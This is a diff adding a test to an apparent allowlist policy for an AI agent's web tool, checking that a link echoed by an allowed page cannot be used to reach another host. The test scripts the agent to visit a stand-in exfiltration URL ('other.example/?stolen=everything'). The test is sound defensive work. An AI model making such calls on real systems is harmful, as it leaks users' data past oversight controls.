@@ -90,3 +90,15 @@ async def test_addresses_of_listed_hosts_are_opened_unasked(serve, server):
     hosts = [f"site.example:{server.server_address[1]}"]
     said, _ = await answer(serve, server, replies, "Read it.", policy=Policy(hosts=hosts))
     assert said == "open"
+
+
+async def test_a_page_of_a_host_that_is_allowed_as_a_whole_makes_no_address_known(serve, server):
+    """The model may have put into the address what the page then repeats."""
+    leak = "http://other.example/?stolen=everything"
+    server.serve("/echo?q=stolen", f'<p>You asked for <a href="{leak}">{leak}</a></p>', content_type="text/html")
+    replies = [code("visit_webpage('SITE/echo?q=stolen').links[0].url"), code(f"visit_webpage({leak!r})"), "Done."]
+    hosts = [f"site.example:{server.server_address[1]}"]
+    _, observed = await answer(serve, server, replies, "Read it.", policy=Policy(hosts=hosts))
+    assert leak in observed[0]
+    assert f"Opening {leak} was not allowed" in observed[1]
+    assert [path for _, path in server.requests] == ["/echo?q=stolen"]
